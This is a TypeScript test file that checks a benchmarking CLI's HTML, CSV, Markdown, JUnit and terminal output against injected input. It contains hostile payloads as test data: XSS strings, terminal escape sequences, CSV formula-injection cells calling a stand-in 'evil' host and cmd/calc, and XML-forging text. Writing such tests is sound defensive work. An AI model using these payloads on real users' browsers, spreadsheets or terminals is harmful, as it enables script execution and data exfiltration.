/**
 * No file can attack the person who opens eformer's output. Markup in any string of a results
 * file, a latency table or a search result (and a string where a number belongs) builds no element
 * in the DOM Chromium makes of the HTML views; CSV cells that a spreadsheet would run as formulas
 * are neutralised; Markdown (reports and the gate's CI summary) keeps its table and gains no
 * heading or HTML; and terminal control sequences from files and tools never reach the terminal.
 */
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { main } from '../../src/cli/main.js';
import { cliWith, fakeTools } from '../fakes.js';
import { cli, tempDir } from '../helpers.js';
import { richResults, smallLut, smallSearch } from './files.js';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const dir = tempDir('eformer-render-');
const write = (name: string, data: unknown) => {
  const path = join(dir, name);
  writeFileSync(path, typeof data === 'string' ? data : JSON.stringify(data));
  return path;
};

/** Markup for every context a string can land in: element content, double- and single-quoted attributes. */
const PAYLOAD = `<img src=x onerror=window.__pwned=1>"><script>window.__pwned=1</script>'><svg onload=window.__pwned=1>\u001b]0;owned\u0007`;


/** A copy of `value` with every string replaced by `f(string, path)`. */
function mapStrings(value: unknown, f: (s: string, path: string) => string, path = ''): unknown {
  if (typeof value === 'string') return f(value, path);
  if (Array.isArray(value)) return value.map((v, i) => mapStrings(v, f, `${path}[${i}]`));
  if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, mapStrings(v, f, `${path}.${k}`)]));
  return value;
}

/** Every place a number sits, with array indices collapsed (`.chosen[].point.attention`). */
function numberPatterns(value: unknown, path = '', into = new Set<string>()): Set<string> {
  if (typeof value === 'number') into.add(path);
  else if (Array.isArray(value)) value.forEach((v) => numberPatterns(v, `${path}[]`, into));
  else if (value && typeof value === 'object') for (const [k, v] of Object.entries(value)) numberPatterns(v, `${path}.${k}`, into);
  return into;
}

/** A copy of `value` with every number at `pattern` replaced by `replacement`. */
function replaceNumbers(value: unknown, pattern: string, replacement: unknown, path = ''): unknown {
  if (typeof value === 'number') return path === pattern ? replacement : value;
  if (Array.isArray(value)) return value.map((v) => replaceNumbers(v, pattern, replacement, `${path}[]`));
  if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, replaceNumbers(v, pattern, replacement, `${path}.${k}`)]));
  return value;
}

/** Only what the renderers create; anything else in the DOM came from a file. */
const TAGS = ['html', 'head', 'meta', 'title', 'style', 'body', 'h1', 'h2', 'h3', 'h4', 'p', 'div', 'span', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'svg', 'line', 'text', 'circle', 'rect', 'polyline'];
const ATTRIBUTES = ['lang', 'charset', 'class', 'style', 'x', 'y', 'x1', 'x2', 'y1', 'y2', 'cx', 'cy', 'r', 'width', 'height', 'viewBox', 'role', 'aria-label', 'text-anchor', 'transform', 'stroke', 'fill', 'points', 'title'];

let browser: Browser;
let page: Page;

beforeAll(async () => {
  if (!existsSync(CHROMIUM)) throw new Error(`headless Chromium not found at ${CHROMIUM}: apt-get install -y chromium (or set CHROMIUM_PATH)`);
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'] });
  page = await browser.newPage();
});

afterAll(async () => {
  await browser?.close();
});

/** What of the page was not made by the renderer: unknown elements and attributes, and whether a script ran. */
async function foreignContent(htmlPath: string): Promise<{ problems: string[]; text: string }> {
  await page.goto(`file://${htmlPath}`, { waitUntil: 'load' });
  return page.evaluate(
    ([tags, attributes]) => {
      const problems: string[] = [];
      if ((window as unknown as { __pwned?: unknown }).__pwned !== undefined) problems.push('a script ran: window.__pwned is set');
      for (const el of document.querySelectorAll('*')) {
        const tag = el.tagName.toLowerCase();
        if (!tags.includes(tag)) problems.push(`<${tag}>`);
        for (const a of el.attributes) if (!attributes.includes(a.name)) problems.push(`<${tag} ${a.name}>`);
      }
      return { problems, text: document.body.textContent ?? '' };
    },
    [TAGS, ATTRIBUTES] as const,
  );
}

/** `eformer ...` run in this process (the CLI's own main), for the many small cases: exit code and stderr. */
async function inProcess(...args: string[]): Promise<{ code: number; stderr: string }> {
  const errors = vi.spyOn(console, 'error').mockImplementation(() => {});
  const listeners = { SIGINT: process.listeners('SIGINT'), SIGTERM: process.listeners('SIGTERM') };
  try {
    const code = await main(['node', 'eformer', ...args]);
    return { code, stderr: errors.mock.calls.map((c) => c.join(' ')).join('\n') };
  } finally {
    errors.mockRestore();
    for (const signal of ['SIGINT', 'SIGTERM'] as const) for (const l of process.listeners(signal)) if (!listeners[signal].includes(l)) process.off(signal, l);
  }
}

const lut = smallLut();
/** Each kind of file, and its fields whose value a validator pins to a few words (an enumeration, a known family): markup there is refused. */
const KINDS: [string, () => unknown, string[]][] = [
  ['results (two backends, breakdown, int8, a device)', richResults, ['precision']],
  ['latency table', () => JSON.parse(JSON.stringify(lut)), ['family']],
  ['search result', () => smallSearch(lut), ['objective']],
];
const last = (path: string) => path.split('.').at(-1)!;

describe('HTML views: markup from a file builds no element', () => {
  it.each(KINDS)('%s: markup in every string field is shown as text (real CLI, Chromium)', async (kind, make, pinned) => {
    let n = 0;
    const hostile = mapStrings(make(), (s, path) => (path === '.schema' || pinned.includes(last(path)) ? s : `${PAYLOAD}${n++}`));
    const input = write(`strings-${kind.split(' ')[0]}.json`, hostile);
    const out = join(dir, `strings-${kind.split(' ')[0]}.html`);
    const r = await cli('report', input, '-o', out);
    expect(r.code, r.stderr).toBe(0);
    // Nor can the page command a terminal it is printed to (`report FILE -f html` without -o).
    expect(readFileSync(out, 'utf8')).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    const { problems, text } = await foreignContent(out);
    expect(problems).toEqual([]);
    // The strings are shown, not dropped.
    expect(text).toContain('<img src=x onerror=window.__pwned=1>');
  });

  it.each(KINDS)('%s: a string where a number belongs is refused (exit 2, one line) or shown as text', async (kind, make) => {
    const valid = make();
    const patterns = [...numberPatterns(valid)];
    expect(patterns.length).toBeGreaterThan(5);
    const failures: string[] = [];
    for (const pattern of patterns) {
      const input = write('number.json', replaceNumbers(valid, pattern, PAYLOAD));
      const out = join(dir, 'number.html');
      const r = await inProcess('report', input, '-o', out);
      if (r.code === 2 && r.stderr.split('\n').length === 1) continue;
      if (r.code !== 0) failures.push(`${pattern}: exit ${r.code}: ${r.stderr}`);
      else {
        const { problems } = await foreignContent(out);
        if (problems.length) failures.push(`${pattern}: ${problems.join(', ')}`);
      }
    }
    expect(failures).toEqual([]);
  });

  it.each(KINDS)('%s: markup in a field pinned to a few words is refused', async (kind, make, pinned) => {
    const hostile = mapStrings(make(), (s, path) => (pinned.includes(last(path)) ? `${s}${PAYLOAD}` : s));
    const r = await inProcess('report', write('pinned.json', hostile), '-o', join(dir, 'pinned.html'));
    expect(r.code, r.stderr).toBe(2);
  });
});

/** Text a terminal would act on: any C0 or C1 control but the line feed, and DEL. */
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
const ESCAPES = '\u001b[2J\u001b]0;owned\u0007\u009b31m\u001b]8;;http://evil\u001b\\link\u001b]8;;\u001b\\\r\u007f';

describe('terminal: control sequences from files and tools are shown, never obeyed', () => {
  const hostile = (edit: (f: any) => void) => {
    const f = richResults();
    f.results = [f.results[0]];
    // Raw medians: no reference model in these one-model files.
    delete f.results[0].vs_reference;
    edit(f);
    return f;
  };
  const evilName = `s0${ESCAPES}`;
  const base = write('term-base.json', hostile((f) => (f.results[0].model = evilName)));
  const slower = write(
    'term-slower.json',
    hostile((f) => {
      const r = f.results[0];
      r.model = evilName;
      r.latency_ms.samples = r.latency_ms.samples.map((v: number) => v * 1.5);
      f.env.cpu = `CPU${ESCAPES}`;
    }),
  );

  it.each([
    ['report (table)', ['report', slower]],
    ['report --wide', ['report', slower, '--wide']],
    ['report -f markdown', ['report', slower, '-f', 'markdown']],
    ['report -f csv', ['report', slower, '-f', 'csv']],
    ['gate: the table and the stderr line naming the regression', ['gate', '--baseline', base, '--current', slower, '--raw-medians']],
    ['an error line quoting a file', ['report', write('term-schema.json', { schema: `x${ESCAPES}` })]],
  ])('%s', async (_, args) => {
    const r = await cli(...args);
    expect(r.code === 0 || r.code === 1 || r.code === 2, r.stderr).toBe(true);
    expect(CONTROL.test(r.stdout), JSON.stringify(r.stdout)).toBe(false);
    expect(CONTROL.test(r.stderr), JSON.stringify(r.stderr)).toBe(false);
    expect(`${r.stdout}${r.stderr}`).toMatch(/\\x1b/);
  });

  it('devices: an adb serial and model with escape sequences', async () => {
    const transcript = write('adb-evil.json', {
      description: 'hand-written: adb listing a device whose serial and model carry terminal escape sequences',
      calls: [{ tool: 'adb', args: ['devices', '-l'], stdout: `List of devices attached\nEVIL${ESCAPES.replace(/[\r ]/g, '')} unauthorized usb:1-2 model:Pix${'\u001b[8m'} transport_id:4\n\n` }],
    });
    const fakes = fakeTools(transcript, ['adb']);
    const r = await cliWith({ ...fakes.env, PATH: fakes.env.PATH.split(':')[0] }, 'devices');
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/EVIL\\x1b\[2J/);
    expect(CONTROL.test(r.stdout) || CONTROL.test(r.stderr)).toBe(false);
  });
});

/** CSV cells, quotes honoured. */
function csvCells(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') rows.at(-1)!.push(cell), (cell = '');
    else if (c === '\n') rows.at(-1)!.push(cell), rows.push([]), (cell = '');
    else cell += c;
  }
  rows.at(-1)!.push(cell);
  return rows;
}

describe('CSV: no cell a spreadsheet would run as a formula', () => {
  it('text cells starting with = + - @ tab or CR get a leading quote; numbers stay numbers', async () => {
    const f = richResults();
    const [r, web, int8, device] = f.results;
    r.model = '=HYPERLINK("http://evil/?x="&A1,"click")';
    web.model = "-2+3+cmd|' /C calc'!A0";
    int8.model = '@SUM(1+1)*cmd|" /C calc"!A0';
    int8.int8.sqnr_db = -3.2;
    int8.int8.calibration = '\t=1+1';
    device.device.name = '\r=1+1';
    device.model = '+1+1';
    const out = await cli('report', write('formula.json', f), '-f', 'csv');
    expect(out.code, out.stderr).toBe(0);
    const rows = csvCells(out.stdout);
    const header = rows[0];
    for (const row of rows.slice(1)) {
      for (const cell of row) if (/^[=+\-@\t\r]/.test(cell)) expect(Number.isFinite(Number(cell)), `cell ${JSON.stringify(cell)}`).toBe(true);
    }
    const int8Row = rows.find((row) => row[header.indexOf('model')].startsWith("'@SUM"))!;
    expect(int8Row[header.indexOf('int8_sqnr_db')]).toBe('-3.2');
    expect(rows.map((row) => row[header.indexOf('model')])).toContain('\'=HYPERLINK("http://evil/?x="&A1,"click")');
  });
});

describe('Markdown: text from files stays inside its cell', () => {
  const evil = 'evil\n## pwned heading\n<!-- hide the rest\n<img src=x onerror=alert(1)> | [link](http://evil) ![pixel](http://evil/p.png)';
  /** Every table row has the header's number of cells; no heading, comment or raw HTML came from the file. */
  function checkMarkdown(text: string, ownHeadings: RegExp) {
    const lines = text.split('\n');
    const cells = (line: string) => line.replace(/\\\|/g, '').split('|').length;
    let columns = 0;
    for (const line of lines) {
      if (!line.startsWith('|')) columns = 0;
      else if (!columns) columns = cells(line);
      else expect(cells(line), line).toBe(columns);
      if (/^\s{0,3}#/.test(line)) expect(line).toMatch(ownHeadings);
    }
    expect(text).not.toMatch(/<(?:!--|img|script)|(?<!\\)\](?:\(|\[)/);
    expect(text).toMatch(/evil/);
  }

  it('report -f markdown', async () => {
    const f = richResults();
    f.results[0].model = evil;
    f.results[0].breakdown.by_op[0].key = evil;
    f.env.cpu = evil;
    const r = await cli('report', write('md.json', f), '-f', 'markdown');
    expect(r.code, r.stderr).toBe(0);
    checkMarkdown(r.stdout, /^$/);
  });

  it("the gate's summary appended to $GITHUB_STEP_SUMMARY", async () => {
    const summary = join(dir, 'summary.md');
    const f = richResults();
    f.results = [f.results[0]];
    delete f.results[0].vs_reference;
    f.results[0].model = evil;
    const r = await cliWith({ ...process.env, GITHUB_STEP_SUMMARY: summary } as Record<string, string>, 'gate', '--baseline', write('md-base.json', f), '--current', write('md-cur.json', f), '--raw-medians');
    expect(r.code, r.stderr).toBe(0);
    checkMarkdown(readFileSync(summary, 'utf8'), /^### eformer latency gate: /);
  });
});

describe('JUnit XML: text from files stays text, and the file stays XML', () => {
  it('markup and characters XML cannot hold (C0 controls, a lone surrogate) in a model name: the report parses, and says the name', async () => {
    // One \x01 written raw made the whole JUnit file unreadable to a CI's parser (XML 1.0 has no such character, even as &#1;).
    const name = `s0\u0001\u000b\ud800]]><testcase name="forged"/>&amp;`;
    const f = richResults();
    f.results = [f.results[0]];
    delete f.results[0].vs_reference;
    f.results[0].model = name;
    const junit = join(dir, 'gate.xml');
    const r = await cli('gate', '--baseline', write('xml-base.json', f), '--current', write('xml-cur.json', f), '--raw-medians', '--junit', junit);
    expect(r.code, r.stderr).toBe(0);
    const xml = readFileSync(junit, 'utf8');
    const parsed = await page.evaluate((text) => {
      const doc = new DOMParser().parseFromString(text, 'application/xml');
      return {
        error: doc.getElementsByTagName('parsererror')[0]?.textContent ?? '',
        classes: [...doc.getElementsByTagName('testcase')].map((t) => t.getAttribute('classname')),
        forged: [...doc.getElementsByTagName('testcase')].filter((t) => t.getAttribute('name') === 'forged').length,
      };
    }, xml);
    expect(parsed.error).toBe('');
    expect(parsed.forged).toBe(0);
    expect(parsed.classes.length).toBeGreaterThan(0);
    for (const c of parsed.classes) expect(c).toBe(`eformer.gate.s0\\x01\\x0b\\ud800]]><testcase name="forged"/>&amp;`);
  });
});
